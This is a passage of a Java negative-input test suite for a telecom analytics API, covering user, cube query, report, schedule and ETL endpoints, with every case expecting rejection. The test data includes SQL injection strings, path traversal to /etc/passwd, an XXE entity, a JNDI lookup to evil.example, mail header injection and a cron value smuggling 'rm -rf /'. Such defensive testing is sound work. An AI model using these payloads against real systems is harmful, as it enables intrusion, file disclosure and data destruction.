      on(create, Who.ADMIN).json(user.apply("\"role\":" + js(role))).expect(400, "unknown_role");
    }
    for (String org : List.of("P999999", "../HQ", "HQ' OR 1=1 --", "C440100\u0000", "p440000' --", "x".repeat(5000))) {
      on(create, Who.ADMIN).json(user.apply("\"org\":" + js(org))).expect(400, "unknown_org");
    }
    for (String email : List.of("x@evil.example\r\nBcc: y@evil.example", "not-an-email", "a@b\u0000.example",
        "x".repeat(5000) + "@example.com", "' OR 1=1 --@example.com")) {
      on(create, Who.ADMIN).json(user.apply("\"email\":" + js(email))).expect(400, "bad_address");
    }
    for (String pw : List.of("short", "x".repeat(5000), "😀😀")) {
      on(create, Who.ADMIN).json(user.apply("\"password\":" + js(pw))).expect(400, "weak_password");
    }
    for (String display : List.of("a\u0000b", "x".repeat(5000), "\u001b[31mred")) {
      on(create, Who.ADMIN).json(user.apply("\"displayName\":" + js(display))).expect(400, "bad_display_name");
    }
    // wrong JSON types for every field
    for (String field : List.of("\"username\":[\"x\"]", "\"role\":{\"a\":1}", "\"org\":{\"code\":\"HQ\"}",
        "\"email\":[\"a@example.com\"]", "\"displayName\":[1]", "\"password\":{\"a\":1}")) {
      on(create, Who.ADMIN).json(user.apply(field)).expect(400, "malformed_body");
    }
    on(create, Who.ADMIN).json(user.apply("\"password\":12345678901,\"role\":\"root\"")).expect(400, "unknown_role");
    on(create, Who.ADMIN).json("null").expect(400, "missing_parameter");

    String change = "PUT /api/users/{username}";
    on(change, Who.ADMIN).at("/api/users/nobody").json("{\"enabled\":false}").expect(404, "unknown_user");
    for (String name : List.of("' OR 1=1 --", "admin' --", "x".repeat(5000), "广东😀", "../../etc/passwd", "a\u0000b",
        "admin;x")) {
      pathCase(change, Who.ADMIN, "/api/users/", name, "", 404, "unknown_user", "{\"enabled\":false}");
    }
    for (String body : List.of("{}", "{\"enabled\":null}", "null")) {
      on(change, Who.ADMIN).at("/api/users/gd-manager").json(body).expect(400, "missing_parameter");
    }
    for (String body : List.of("{\"enabled\":\"maybe\"}", "{\"enabled\":[false]}", "{\"enabled\":{\"$ne\":true}}")) {
      on(change, Who.ADMIN).at("/api/users/gd-manager").json(body).expect(400, "malformed_body");
    }

    String audit = "GET /api/audit";
    for (String q : List.of("limit=0", "limit=1001", "limit=-1", "limit=abc", "limit=99999999999999999999",
        "from=yesterday", "to=" + enc("' OR 1=1 --"), "from=" + enc("2025-13-01T00:00:00Z"), "limit=" + enc("1\u0000"))) {
      on(audit, Who.ADMIN).at("/api/audit?" + q).expect(400, "bad_parameter|bad_request");
    }
    on(audit, Who.ADMIN).at("/api/audit?order=" + enc("at; DROP TABLE audit_event")).expect(400, "unknown_parameter");
  }

  private void cubes() {
    String catalog = "GET /api/cubes";
    for (String locale : nasty(0, 7)) {
      on(catalog, Who.MANAGER).at("/api/cubes?locale=" + enc(locale)).expect(400, "unknown_locale|bad_request");
    }
    on(catalog, Who.ANALYST).at("/api/cubes?cube=revenue").expect(400, "unknown_parameter");

    String cube = "GET /api/cubes/{cube}";
    for (String name : nasty(7, 7)) {
      pathCase(cube, Who.ANALYST, "/api/cubes/", name, "", 404, "unknown_cube");
    }
    pathCase(cube, Who.MANAGER, "/api/cubes/", "fact_billing", "", 404, "unknown_cube");
    on(cube, Who.ANALYST).at("/api/cubes/revenue?locale=fr").expect(400, "unknown_locale");

    String members = "GET /api/cubes/{cube}/members/{level}";
    for (String level : nasty(3, 7)) {
      pathCase(members, Who.ANALYST, "/api/cubes/revenue/members/", level, "", 400, "unknown_level|unknown_dimension|bad_level");
    }
    for (String parent : nasty(10, 7)) {
      on(members, Who.ADMIN).at("/api/cubes/revenue/members/region.city?parent=" + enc(parent))
          .expect(400, "unknown_member|unknown_member_did_you_mean|control_character|bad_request");
    }
    // outside the manager's province: forbidden, not an empty list
    on(members, Who.MANAGER).at("/api/cubes/revenue/members/region.city?parent=110000").expect(403, "out_of_scope");
    on(members, Who.MANAGER).at("/api/cubes/revenue/members/region.province?locale=fr").expect(400, "unknown_locale");
    on(members, Who.MANAGER).at("/api/cubes/nope/members/region.province").expect(404, "unknown_cube");
    on(members, Who.MANAGER).at("/api/cubes/revenue/members/region.city?parent=440100&limit=5")
        .expect(400, "unknown_parameter");
  }

  /** The query body field by field, with every nasty string; then the explain endpoints. */
  private void queries() {
    String query = "POST /api/cubes/{cube}/query";
    Map<String, String> slots = new LinkedHashMap<>();
    slots.put("measures", "unknown_measure|control_character");
    slots.put("rows", "unknown_level|unknown_dimension|bad_level|control_character");
    slots.put("columns", "unknown_level|unknown_dimension|bad_level|control_character");
    slots.put("filters.level", "unknown_level|unknown_dimension|bad_level|control_character");
    slots.put("filters.members", "unknown_member|unknown_member_did_you_mean|bad_member|control_character");
    slots.put("filters.from", "bad_date|bad_range|bad_member|control_character");
    slots.put("order.by", "unknown_order_key|control_character");
    slots.put("timeIntelligence", "unknown_time_intelligence|bad_time_intelligence|control_character");
    slots.put("locale", "unknown_locale");
    slots.put("cube", "cube_mismatch");
    int n = 0;
    int slotIndex = 0;
    for (Map.Entry<String, String> slot : slots.entrySet()) {
      for (String v : nasty(5 * slotIndex++, 5)) {
        on(query, n++ % 2 == 0 ? Who.ANALYST : Who.ADMIN).json(querySlot(slot.getKey(), v))
            .expect(400, slot.getValue());
      }
    }
    // wrong JSON types for every field
    for (String field : List.of("\"measures\":\"revenue\"", "\"measures\":[[\"revenue\"]]", "\"measures\":{\"a\":1}",
        "\"rows\":\"region.province\"", "\"columns\":42", "\"filters\":{\"level\":\"region.province\"}",
        "\"filters\":[\"region.province\"]", "\"filters\":[{\"level\":\"region.province\",\"members\":\"440000\"}]",
        "\"order\":\"revenue\"", "\"order\":[{\"by\":\"revenue\",\"descending\":\"maybe\"}]", "\"limit\":\"x\"",
        "\"limit\":1e309", "\"limit\":99999999999999999999", "\"limit\":[1]", "\"locale\":[\"en\"]",
        "\"totals\":\"maybe\"", "\"totals\":{}", "\"timeIntelligence\":\"yoy\"", "\"cube\":[\"revenue\"]")) {
      on(query, Who.ANALYST).json("{" + field + (field.startsWith("\"measures\"") ? "" : ",\"measures\":[\"revenue\"]")
          + "}").expect(400, "malformed_body");
    }
    for (String limit : List.of("-1", "0", "2147483647000")) {
      on(query, Who.ADMIN).json("{\"measures\":[\"revenue\"],\"rows\":[\"region.province\"],\"limit\":" + limit + "}")
          .expect(400, "bad_limit|malformed_body");
    }
    on(query, Who.ANALYST).json("{\"measures\":[]}").expect(400, "missing_measures");
    on(query, Who.ANALYST).json("{\"measures\":[null]}").expect(400, "malformed_body|unknown_measure|missing_measures");
    on(query, Who.ANALYST).json("{\"measures\":[\"revenue\",\"revenue\"]}").expect(400, "duplicate_measure");
    on(query, Who.ANALYST).json("{\"measures\":[\"revenue\"],\"rows\":[\"region.province\",\"region.province\"]}")
        .expect(400, "duplicate_level");
    on(query, Who.ANALYST).json("{\"measures\":[\"revenue\"],\"filters\":[{\"level\":\"region.province\","
        + "\"from\":\"440000\"}]}").expect(400, "range_on_non_time_level");
    on(query, Who.ANALYST).json("{\"measures\":[\"revenue\"],\"filters\":[{\"level\":\"time.month\",\"from\":"
        + "\"2025-06\",\"to\":\"2025-01\"}]}").expect(400, "bad_range");
    on(query, Who.ANALYST).json("{\"measures\":[\"revenue\"],\"timeIntelligence\":[\"previous_period\"]}")
        .expect(400, "time_level_required");
    on(query, Who.ADMIN).at("/api/cubes/nope/query").json(QUERY).expect(404, "unknown_cube");
    on(query, Who.ADMIN).at("/api/cubes/fact_billing/query").json(QUERY).expect(404, "unknown_cube");
    on(query, Who.ANALYST).at("/api/cubes/revenue/query?locale=en").json(QUERY).expect(400, "unknown_parameter");
    // the query id header: too long or blank (what java.net.http cannot send is in rawProtocol)
    on(query, Who.ANALYST).header("X-Query-Id", "q".repeat(5000)).json(QUERY).expect(400, "bad_query_id");
    on(query, Who.ANALYST).header("X-Query-Id", " ").json(QUERY).expect(400, "bad_query_id");
    on(query, Who.ANALYST).header("Content-Type", "application/json; charset=x-bogus").json(QUERY)
        .expect(415, "unsupported_media_type|malformed_body");
    on(query, Who.ANALYST).body("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY e SYSTEM "
        + "\"file:///etc/passwd\">]><CubeQuery><measures>&e;</measures></CubeQuery>")
        .expect(400, "malformed_body|unknown_measure");
    on(query, Who.ANALYST).json("").expect(400, "malformed_body");
    on(query, Who.ANALYST).json("{\"measures\":[\"revenue\"]}garbage").expect(400, "malformed_body");
    on(query, Who.ANALYST).json("\u0000").expect(400, "malformed_body");

    String explain = "POST /api/cubes/{cube}/explain";
    // (explain plans without looking members up: a made-up member is no mistake there)
    for (String slot : List.of("measures", "rows", "filters.level")) {
      for (String v : nasty(slot.length(), 5)) {
        on(explain, Who.ANALYST).json(querySlot(slot, v)).expect(400, slots.get(slot));
      }
    }
    on(explain, Who.ADMIN).at("/api/cubes/nope/explain").json(QUERY).expect(404, "unknown_cube");
    on(explain, Who.ADMIN).json("{\"measures\":[\"revenue\"],\"limit\":\"all\"}").expect(400, "malformed_body");

    String explainGet = "GET /api/cubes/{cube}/explain";
    for (String v : nasty(5, 7)) {
      on(explainGet, Who.ANALYST).at("/api/cubes/revenue/explain?measures=" + enc(v))
          .expect(400, "unknown_measure|control_character|bad_request");
    }
    for (String q : List.of("rows=" + enc("region.province) UNION SELECT 1 --"), "columns=" + enc("../../etc/passwd"),
        "limit=abc", "limit=99999999999999999999", "totals=maybe", "locale=fr", "timeIntelligence=" + enc("' OR 1=1 --"))) {
      on(explainGet, Who.ADMIN).at("/api/cubes/revenue/explain?measures=revenue&" + q)
          .expect(400, "unknown_level|unknown_dimension|bad_level|bad_parameter|unknown_locale|unknown_time_intelligence"
              + "|bad_time_intelligence");
    }
    on(explainGet, Who.ADMIN).at("/api/cubes/revenue/explain").expect(400, "missing_measures");

    String cancel = "DELETE /api/cubes/queries/{id}";
    // an unknown id is a deliberate 204; one that could never have been registered is a 400
    for (String id : List.of("q".repeat(5000), "a\u001bb", "a\u0000b", "%", "../../etc/passwd", "a;b", "a\\b")) {
      pathCase(cancel, Who.ANALYST, "/api/cubes/queries/", id, "", 400, "bad_query_id|control_character");
    }
  }

  private String querySlot(String slot, String v) {
    String s = js(v);
    return switch (slot) {
      case "measures" -> "{\"measures\":[" + s + "],\"rows\":[\"region.province\"]}";
      case "rows" -> "{\"measures\":[\"revenue\"],\"rows\":[" + s + "]}";
      case "columns" -> "{\"measures\":[\"revenue\"],\"rows\":[\"region.province\"],\"columns\":[" + s + "]}";
      case "filters.level" -> "{\"measures\":[\"revenue\"],\"filters\":[{\"level\":" + s + ",\"members\":[\"440000\"]}]}";
      case "filters.members" -> "{\"measures\":[\"revenue\"],\"filters\":[{\"level\":\"region.province\","
          + "\"members\":[" + s + "]}]}";
      case "filters.from" -> "{\"measures\":[\"revenue\"],\"filters\":[{\"level\":\"time.month\",\"from\":" + s + "}]}";
      case "order.by" -> "{\"measures\":[\"revenue\"],\"rows\":[\"region.province\"],\"order\":[{\"by\":" + s + "}]}";
      case "timeIntelligence" -> "{\"measures\":[\"revenue\"],\"rows\":[\"time.month\"],\"timeIntelligence\":[" + s
          + "]}";
      case "locale" -> "{\"measures\":[\"revenue\"],\"locale\":" + s + "}";
      case "cube" -> "{\"cube\":" + s + ",\"measures\":[\"revenue\"]}";
      default -> throw new IllegalArgumentException(slot);
    };
  }

  private void exports() {
    String export = "POST /api/cubes/{cube}/export";
    for (String format : nasty(2, 7)) {
      on(export, Who.ANALYST).at("/api/cubes/revenue/export?format=" + enc(format)).json(QUERY)
          .expect(400, "unknown_format|bad_request");
    }
    for (String format : List.of("pdf", "xlsx%00", "csv;", "CSV ' OR 1=1")) {
      on(export, Who.ADMIN).at("/api/cubes/revenue/export?format=" + format.replace(" ", "%20").replace(";", "%3B")
          .replace("'", "%27")).json(QUERY).expect(400, "unknown_format|bad_request");
    }
    for (String v : List.of("' OR 1=1 --", "a\u0000b", "x".repeat(5000))) {
      on(export, Who.ANALYST).json(querySlot("measures", v)).expect(400, "unknown_measure|control_character");
      on(export, Who.ADMIN).json(querySlot("filters.members", v))
          .expect(400, "unknown_member|unknown_member_did_you_mean|bad_member|control_character");
    }
    on(export, Who.ANALYST).at("/api/cubes/nope/export?format=csv").json(QUERY).expect(404, "unknown_cube");
    on(export, Who.ANALYST).at("/api/cubes/revenue/export?format=csv&limit=5").json(QUERY)
        .expect(400, "unknown_parameter");
    on(export, Who.ANALYST).json("{\"measures\":[\"revenue\"],\"limit\":-1}").expect(400, "bad_limit");
    for (String field : List.of("\"measures\":\"revenue\"", "\"filters\":{}", "\"limit\":\"x\"",
        "\"totals\":\"maybe\"", "\"order\":[1]")) {
      on(export, Who.ADMIN).json("{" + field + (field.startsWith("\"measures\"") ? "" : ",\"measures\":[\"revenue\"]")
          + "}").expect(400, "malformed_body");
    }
  }

  private void reports() {
    on("GET /api/reports", Who.MANAGER).at("/api/reports?locale=en").expect(400, "unknown_parameter");
    on("GET /api/reports", Who.ANALYST).at("/api/reports?id=" + enc("' OR 1=1 --")).expect(400, "unknown_parameter");

    String report = "GET /api/reports/{id}";
    for (String id : nasty(4, 7)) {
      pathCase(report, Who.ANALYST, "/api/reports/", id, "?month=2025-06", 404, "unknown_report");
    }
    String base = "/api/reports/monthly-revenue?month=2025-06";
    for (String v : NASTY) {
      on(report, Who.ADMIN).at("/api/reports/monthly-revenue?month=" + enc(v)).expect(400, "bad_date|bad_request");
    }
    for (String v : nasty(1, 7)) {
      on(report, Who.ANALYST).at(base + "&format=" + enc(v)).expect(400, "unknown_format|bad_request");
    }
    for (String v : nasty(8, 7)) {
      on(report, Who.MANAGER).at(base + "&locale=" + enc(v)).expect(400, "unknown_locale|bad_request");
    }
    for (String v : nasty(3, 7)) {
      on(report, Who.ADMIN).at("/api/reports/monthly-churn?month=2025-06&scope=" + enc(v))
          .expect(0, "unknown_scope|bad_request|too_long");
    }
    on(report, Who.ANALYST).at("/api/reports/monthly-revenue").expect(400, "missing_month");
    on(report, Who.ANALYST).at("/api/reports/monthly-revenue?month=").expect(400, "missing_month");
    on(report, Who.ANALYST).at("/api/reports/monthly-revenue?month=1999-01").expect(404, "no_data");
    on(report, Who.ANALYST).at(base + "&language=en").expect(400, "unknown_parameter");
    // another province, and an ancestor of the manager's own: forbidden
    on(report, Who.MANAGER).at(base + "&scope=110000").expect(403, "out_of_scope");
    on(report, Who.MANAGER).at(base + "&scope=south").expect(403, "out_of_scope");
    on(report, Who.MANAGER).at(base + "&scope=" + enc("440000' OR 1=1 --")).expect(404, "unknown_scope");
  }

  private void churnLists() {
    int from = 0;
    for (String list : List.of("at-risk", "churned", "at-risk/export", "churned/export")) {
      String endpoint = "GET /api/churn/" + list;
      String base = "/api/churn/" + list + "?month=2025-06";
      int n = 0;
      for (String v : nasty(from, 7)) {
        Who who = n++ % 2 == 0 ? Who.ADMIN : Who.MANAGER;
        on(endpoint, who).at("/api/churn/" + list + "?month=" + enc(v)).expect(400, "bad_date|bad_request");
      }
      for (String v : nasty(from + 7, 3)) {
        on(endpoint, Who.MANAGER).at(base + "&region=" + enc(v))
            .expect(400, "unknown_member|control_character|bad_request");
      }
      from += 4;
      on(endpoint, Who.ADMIN).at("/api/churn/" + list).expect(400, "missing_parameter");
      for (String limit : List.of("abc", "99999999999", "-1", "0", "1e3")) {
        on(endpoint, Who.MANAGER).at(base + "&limit=" + limit).expect(400, "bad_parameter|bad_limit");
      }
      on(endpoint, Who.MANAGER).at(base + "&locale=fr").expect(400, "unknown_locale");
      on(endpoint, Who.MANAGER).at(base + "&region=110000").expect(403, "out_of_scope");
      on(endpoint, Who.MANAGER).at(base + "&regoin=440000").expect(400, "unknown_parameter");
    }
  }

  /** A schedule body that is right but for {@code fields}, which replace or add to its own. */
  private static String scheduleBody(String scope, String fields) {
    Map<String, String> body = new LinkedHashMap<>();
    body.put("name", "\"fuzz\"");
    body.put("reportId", "\"monthly-revenue\"");
    body.put("scope", js(scope));
    body.put("cron", "\"0 0 8 1 * ?\"");
    body.put("to", "[\"boss@example.com\"]");
    if (!fields.isEmpty()) {
      for (String f : splitFields(fields)) {
        int colon = f.indexOf("\":");
        body.put(f.substring(1, colon), f.substring(colon + 2));
      }
    }
    return body.entrySet().stream().map(e -> "\"" + e.getKey() + "\":" + e.getValue())
        .collect(Collectors.joining(",", "{", "}"));
  }

  /** Top-level {@code "key":value} pairs of a fragment (values may hold commas inside brackets or strings). */
  private static List<String> splitFields(String fields) {
    List<String> out = new ArrayList<>();
    int depth = 0;
    boolean string = false;
    int start = 0;
    for (int i = 0; i < fields.length(); i++) {
      char ch = fields.charAt(i);
      if (string) {
        if (ch == '\\') {
          i++;
        } else if (ch == '"') {
          string = false;
        }
      } else if (ch == '"') {
        string = true;
      } else if (ch == '[' || ch == '{') {
        depth++;
      } else if (ch == ']' || ch == '}') {
        depth--;
      } else if (ch == ',' && depth == 0) {
        out.add(fields.substring(start, i));
        start = i + 1;
      }
    }
    out.add(fields.substring(start));
    return out;
  }

  private void scheduleCases() {
    String create = "POST /api/schedules";
    Map<String, String> slots = new LinkedHashMap<>();
    slots.put("to", "bad_address|too_long");
    slots.put("cc", "bad_address|too_long");
    slots.put("reportId", "unknown_report|too_long");
    slots.put("scope", "unknown_scope|too_long");
    slots.put("cron", "bad_cron|too_long");
    slots.put("timeZone", "unknown_time_zone");
    slots.put("locale", "unknown_locale");
    slots.put("format", "unknown_format");
    slots.put("month", "bad_date");
    int n = 0;
    int slotIndex = 0;
    for (Map.Entry<String, String> slot : slots.entrySet()) {
      boolean list = slot.getKey().equals("to") || slot.getKey().equals("cc");
      for (String v : nasty(5 * slotIndex++, 5)) {
        String value = list ? "[" + js(v) + "]" : js(v);
        on(create, n++ % 2 == 0 ? Who.ANALYST : Who.ADMIN).json(scheduleBody("", "\"" + slot.getKey() + "\":" + value))
            .expect(400, slot.getValue());
      }
    }
    // header injection into the mail: recipients and subject with CR/LF
    for (String to : List.of("boss@example.com\r\nBcc: x@evil.example", "boss@example.com\nBcc: x@evil.example",
        "Boss <boss@example.com>\r\nBcc: x@evil.example", "boss@example.com, x@evil.example",
        "undisclosed-recipients:;", "\r\nBcc: x@evil.example", "boss@example.com\u0000x@evil.example",
        "\"Boss\r\nBcc: x@evil.example\" <boss@example.com>", "=?UTF-8?Q?Boss=0D=0ABcc:_x@evil.example?= <boss@example.com>")) {
      on(create, Who.MANAGER).json(scheduleBody("440000", "\"to\":[" + js(to) + "]")).expect(400, "bad_address");
      on(create, Who.ANALYST).json(scheduleBody("", "\"cc\":[" + js(to) + "]")).expect(400, "bad_address");
    }
    for (String subject : List.of("Report\r\nBcc: x@evil.example", "Report\nX-Mailer: evil", "Report\rBcc: x",
        "a\u0000b", "{password}", "{report}{../../etc/passwd}", "x".repeat(5000), "{${jndi:ldap://evil.example/a}}")) {
      on(create, Who.MANAGER).json(scheduleBody("440000", "\"subject\":" + js(subject)))
          .expect(400, "control_character|unknown_placeholder|too_long");
    }
    // (leading and trailing control characters are trimmed like spaces: these are inside)
    for (String name : List.of("a\u0000b", "", "x".repeat(5000), "red\u001b[31mred", "line\r\nBcc: x@evil.example")) {
      on(create, Who.ANALYST).json(scheduleBody("", "\"name\":" + js(name)))
          .expect(400, "control_character|missing_name|too_long");
    }
    // cron: too often, never, injected
    for (String cron : List.of("* * * * * ?", "0 0 8 1 1 ? 1999", "'; DROP TABLE QRTZ_TRIGGERS; --", "",
        "0 0 8 1 * ? *; rm -rf /")) {
      on(create, Who.ANALYST).json(scheduleBody("", "\"cron\":" + js(cron)))
          .expect(400, "too_frequent|never_fires|bad_cron|missing_cron");
    }
    // wrong JSON types for every field
    for (String field : List.of("\"name\":[\"x\"]", "\"reportId\":{\"a\":1}", "\"monthOffset\":\"x\"",
        "\"monthOffset\":99999999999", "\"monthOffset\":1e309", "\"month\":[2025,6]", "\"scope\":[\"440000\"]",
        "\"format\":{}", "\"locale\":[]", "\"cron\":[\"0\"]", "\"timeZone\":{\"id\":\"UTC\"}", "\"to\":\"boss@example.com\"",
        "\"to\":[[\"boss@example.com\"]]", "\"cc\":{\"a\":\"b@example.com\"}", "\"subject\":[\"x\"]", "\"enabled\":\"maybe\"",
        "\"enabled\":[true]", "\"owner\":{\"username\":\"admin\"}")) {
      on(create, Who.ADMIN).json(scheduleBody("", field)).expect(400, "malformed_body");
    }
    for (String offset : List.of("1", "-121", "2147483647")) {
      on(create, Who.ANALYST).json(scheduleBody("", "\"monthOffset\":" + offset)).expect(400, "bad_month_offset");
    }
    on(create, Who.ANALYST).json(scheduleBody("", "\"month\":\"2025-06\",\"monthOffset\":-1"))
        .expect(400, "month_and_offset");
    on(create, Who.ANALYST).json(scheduleBody("", "\"to\":[]")).expect(400, "missing_recipient");
    on(create, Who.ANALYST).json(scheduleBody("", "\"to\":[null,\" \"]")).expect(400, "missing_recipient");
    // owners: only admins name one; unknown and malformed owners are named
    on(create, Who.ANALYST).json(scheduleBody("", "\"owner\":\"admin\"")).expect(403, "owner_not_settable");
    on(create, Who.MANAGER).json(scheduleBody("440000", "\"owner\":\"ana\"")).expect(403, "owner_not_settable");
    on(create, Who.ADMIN).json(scheduleBody("", "\"owner\":\"nobody' OR 1=1 --\"")).expect(400, "unknown_user");
    on(create, Who.ADMIN).json(scheduleBody("", "\"owner\":\"a\\u0000b\"")).expect(400, "control_character");
    on(create, Who.ADMIN).json(scheduleBody("", "\"owner\":" + js("x".repeat(5000)))).expect(400, "too_long");
    // the manager's scope: another province or an ancestor is forbidden
    on(create, Who.MANAGER).json(scheduleBody("110000", "")).expect(403, "out_of_scope");
    on(create, Who.MANAGER).json(scheduleBody("south", "")).expect(403, "out_of_scope");
    on(create, Who.ANALYST).json("null").expect(400, "missing_body");
    on(create, Who.ANALYST).json(scheduleBody("", "\"id\":1,\"createdAt\":\"1970-01-01T00:00:00Z\",\"cron\":\"bad\""))
        .expect(400, "bad_cron");

    String one = "GET /api/schedules/{id}";
    String replace = "PUT /api/schedules/{id}";
    String delete = "DELETE /api/schedules/{id}";
    String sendNow = "POST /api/schedules/{id}/send-now";
    String preview = "GET /api/schedules/{id}/preview";
    for (String id : List.of("abc", "999999999999999999999", "1 OR 1=1", "1e3", "' OR 1=1 --", "广东😀",
        "x".repeat(5000), "%2e%2e", "1;DROP", "a\u0000b")) {
      pathCase(one, Who.ANALYST, "/api/schedules/", id, "", 400, "bad_parameter");
      pathCase(delete, Who.ADMIN, "/api/schedules/", id, "", 400, "bad_parameter");
      pathCase(sendNow, Who.MANAGER, "/api/schedules/", id, "/send-now", 400, "bad_parameter");
      pathCase(preview, Who.ANALYST, "/api/schedules/", id, "/preview", 400, "bad_parameter");
      pathCase(replace, Who.ADMIN, "/api/schedules/", id, "", 400, "bad_parameter", scheduleBody("", ""));
    }
    // (0x10 is read as 16, like any Long in a path)
    for (String id : List.of("-1", "0", "999999999", "0x10")) {
      on(one, Who.ADMIN).at("/api/schedules/" + id).expect(404, "unknown_schedule");
      on(delete, Who.ADMIN).at("/api/schedules/" + id).expect(404, "unknown_schedule");
      on(sendNow, Who.ADMIN).at("/api/schedules/" + id + "/send-now").expect(404, "unknown_schedule");
      on(preview, Who.ADMIN).at("/api/schedules/" + id + "/preview").expect(404, "unknown_schedule");
      on(replace, Who.ADMIN).at("/api/schedules/" + id).json(scheduleBody("", "")).expect(404, "unknown_schedule");
    }
    // someone else's schedule: forbidden, whatever is asked of it
    for (long other : List.of(adminSchedule, analystSchedule)) {
      on(one, Who.MANAGER).at("/api/schedules/" + other).expect(403, "not_your_schedule");
      on(delete, Who.MANAGER).at("/api/schedules/" + other).expect(403, "not_your_schedule");
      on(sendNow, Who.MANAGER).at("/api/schedules/" + other + "/send-now").expect(403, "not_your_schedule");
      on(preview, Who.MANAGER).at("/api/schedules/" + other + "/preview").expect(403, "not_your_schedule");
      on(replace, Who.MANAGER).at("/api/schedules/" + other).json(scheduleBody("440000", ""))
          .expect(403, "not_your_schedule");
    }
    on(delete, Who.ANALYST).at("/api/schedules/" + managerSchedule).expect(403, "not_your_schedule");
    on(sendNow, Who.ANALYST).at("/api/schedules/" + managerSchedule + "/send-now").expect(403, "not_your_schedule");
    // one's own, replaced with something wrong: refused and left as it was
    String own = "/api/schedules/" + managerSchedule;
    on(replace, Who.MANAGER).at(own).json(scheduleBody("110000", "")).expect(403, "out_of_scope");
    on(replace, Who.MANAGER).at(own).json(scheduleBody("440000", "\"to\":[\"boss@example.com\\r\\nBcc: x@evil.example\"]"))
        .expect(400, "bad_address");
    on(replace, Who.MANAGER).at(own).json(scheduleBody("440000", "\"subject\":\"x\\r\\nBcc: x@evil.example\""))
        .expect(400, "control_character");
    on(replace, Who.MANAGER).at(own).json(scheduleBody("440000", "\"owner\":\"admin\"")).expect(403, "owner_not_settable");
    on(replace, Who.MANAGER).at(own).json("null").expect(400, "missing_body");
    on(replace, Who.ADMIN).at("/api/schedules/" + adminSchedule).json(scheduleBody("", "\"cron\":\"* * * * * ?\""))
        .expect(400, "too_frequent");
    on(replace, Who.ADMIN).at("/api/schedules/" + analystSchedule).json(scheduleBody("", "\"owner\":\"ghost\""))
        .expect(400, "unknown_user");
    on(replace, Who.ADMIN).at("/api/schedules/" + adminSchedule).json(scheduleBody("", "\"enabled\":\"false\","
        + "\"timeZone\":\"../../etc/localtime\"")).expect(400, "unknown_time_zone");

    String previewCron = "GET /api/schedules/preview";
    for (String cron : List.of("'; DROP TABLE QRTZ_TRIGGERS; --", "x".repeat(5000), "a\u0000b", "\ud800", "0 0 8 1 *")) {
      on(previewCron, Who.ANALYST).at("/api/schedules/preview?cron=" + enc(cron)).expect(400, "bad_cron|bad_request");
    }
    on(previewCron, Who.MANAGER).at("/api/schedules/preview").expect(400, "missing_cron");
    for (String zone : List.of("../../etc/localtime", "Asia/\u0000Shanghai", "GMT+99", "' OR 1=1 --")) {
      on(previewCron, Who.MANAGER).at("/api/schedules/preview?cron=0+0+8+1+*+%3F&timeZone=" + enc(zone))
          .expect(400, "unknown_time_zone|bad_request");
    }
    on("GET /api/schedules", Who.MANAGER).at("/api/schedules?owner=admin").expect(400, "unknown_parameter");
    on("GET /api/schedules", Who.ANALYST).at("/api/schedules?" + enc("\u0000") + "=1").expect(400, "bad_request");
  }

  private void deliveries() {
    String list = "GET /api/deliveries";
    for (String q : List.of("limit=0", "limit=1001", "limit=-1", "limit=abc", "limit=99999999999999999999")) {
      on(list, Who.ANALYST).at("/api/deliveries?" + q).expect(400, "bad_limit|bad_parameter");
    }
    for (String v : nasty(6, 7)) {
      on(list, Who.MANAGER).at("/api/deliveries?status=" + enc(v)).expect(400, "unknown_status|bad_request");
    }
    for (String v : List.of("abc", "' OR 1=1 --", "999999999999999999999", "1e3")) {
      on(list, Who.ADMIN).at("/api/deliveries?scheduleId=" + enc(v)).expect(400, "bad_parameter");
    }
    on(list, Who.MANAGER).at("/api/deliveries?scheduleId=" + adminSchedule).expect(403, "not_your_schedule");
    on(list, Who.ANALYST).at("/api/deliveries?schedule=1").expect(400, "unknown_parameter");

    String one = "GET /api/deliveries/{id}";
    for (String id : List.of("-1", "0", "999999999")) {
      on(one, Who.ADMIN).at("/api/deliveries/" + id).expect(404, "unknown_delivery");
    }
    for (String id : List.of("abc", "999999999999999999999", "' OR 1=1 --", "x".repeat(5000), "1;DROP", "a\u0000b")) {
      pathCase(one, Who.MANAGER, "/api/deliveries/", id, "", 400, "bad_parameter");
    }
  }

  private void warehouseIdentity() {
    on("GET /api/warehouse", Who.LOADER).at("/api/warehouse?path=" + enc("../../etc/passwd"))
        .expect(400, "unknown_parameter");
    on("GET /api/warehouse", Who.ADMIN).at("/api/warehouse?" + enc("a\u0000") + "=1").expect(400, "bad_request");
  }

  private static final String UPLOADS = "POST /api/etl/uploads";
  private static final String MULTIPART = "multipart/form-data; boundary=fuzz";

  /** A multipart body of one {@code files} part named {@code fileName} (and the form's end). */
  private static String upload(String fileName, String content) {
    return "--fuzz\r\nContent-Disposition: form-data; name=\"files\"; filename=\"" + fileName + "\"\r\n"
        + "Content-Type: text/csv\r\n\r\n" + content + "\r\n--fuzz--\r\n";
  }

  /**
   * The loads: names of the server's inbox ({@code POST /api/etl/batches}) and uploads
   * ({@code POST /api/etl/uploads}). None may load anything, read outside the inbox, or tell
   * whether a path exists: every name that is not an inbox file gets the inbox's one 404.
   */
  private void etlBatchCases() {
    String etl = "POST /api/etl/batches";
    for (String file : List.of("../../../../etc/passwd", "/etc/shadow", "/nonexistent/billing_2025-06.csv",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "billing_2025-06.csv", "x".repeat(5000), "' OR 1=1 --", "\ud800",
        "广东😀.csv", "a\u0000b.csv", "billing.csv\u0000.txt", "..", "inbox/../../metadata/telecube.mv.db")) {
      on(etl, Who.LOADER).json("{\"inbox\":[" + js(file) + "]}").expect(404, "not_in_inbox");
    }
    // the old shape named server paths: refused whatever it holds
    for (String files : List.of("[\"/etc/passwd\"]", "\"/etc/passwd\"", "[{\"path\":\"/etc/passwd\"}]", "[null]")) {
      on(etl, Who.ADMIN).json("{\"files\":" + files + "}").expect(400, "paths_not_accepted");
    }
    on(etl, Who.LOADER).json("{\"inbox\":[null]}").expect(400, "missing_path");
    on(etl, Who.LOADER).json("{\"inbox\":[]}").expect(400, "missing_files");
    on(etl, Who.LOADER).json("{\"inbox\":\"/etc/passwd\"}").expect(400, "malformed_body");
    on(etl, Who.LOADER).json("{\"inbox\":[{\"name\":\"/etc/passwd\"}]}").expect(400, "malformed_body");
    on(etl, Who.ADMIN).json("{\"inbox\":[\"billing_2025-06.csv\"],\"feed\":\"'; DROP TABLE fact_billing; --\"}")
        .expect(400, "unknown_feed");
